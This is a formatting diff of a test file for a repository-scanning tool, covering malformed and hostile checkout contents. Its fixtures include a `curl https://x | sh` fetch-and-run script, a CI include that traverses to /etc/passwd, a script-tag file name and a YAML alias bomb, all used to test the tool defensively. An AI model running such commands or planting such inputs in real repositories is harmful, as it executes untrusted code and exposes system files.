@@ -35,9 +35,13 @@ describe('bad input in a git checkout', () => {
       '.github/workflows/malformed.yml': 'on: [push\njobs:\n  a: {runs-on: x\n',
       '.github/workflows/bomb.yml': aliasBomb(),
       '.github/workflows/junk.yml': Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 3, 0xff, 0xfe, 0, 0]),
-      '.github/workflows/badutf8.yml': Buffer.concat([Buffer.from('on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('\n')]),
+      '.github/workflows/badutf8.yml': Buffer.concat([
+        Buffer.from('on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '),
+        Buffer.from([0xc3, 0x28, 0xff]),
+        Buffer.from('\n'),
+      ]),
       '.github/workflows/secret.yml': GOOD_WF,
-      'Dockerfile': 'FROM\nRUN \\',
+      Dockerfile: 'FROM\nRUN \\',
       '.gitlab-ci.yml': 'include: [{local: ../../../etc/passwd}]\njob:\n  script: !!binary AAAA\n',
       'weird name\twith tab & <script>.txt': 'x',
       'ünïcödé/файл.sh': '#!/bin/sh\ncurl https://x | sh\n',
@@ -115,7 +119,10 @@ describe('bad input in a git checkout', () => {
 
 describe('a directory that is not a git repository', () => {
   it('is walked; git-only facts are unknown with the reason', async () => {
-    const t = tempTree({ '.github/workflows/ci.yml': GOOD_WF, 'LICENSE': 'MIT License\n\nPermission is hereby granted, free of charge, to any person obtaining a copy' });
+    const t = tempTree({
+      '.github/workflows/ci.yml': GOOD_WF,
+      LICENSE: 'MIT License\n\nPermission is hereby granted, free of charge, to any person obtaining a copy',
+    });
     try {
       const a = await assess(new LocalSource(t.dir), { checks: [...builtinChecks] });
       expect(a.target.commit).toBeNull();
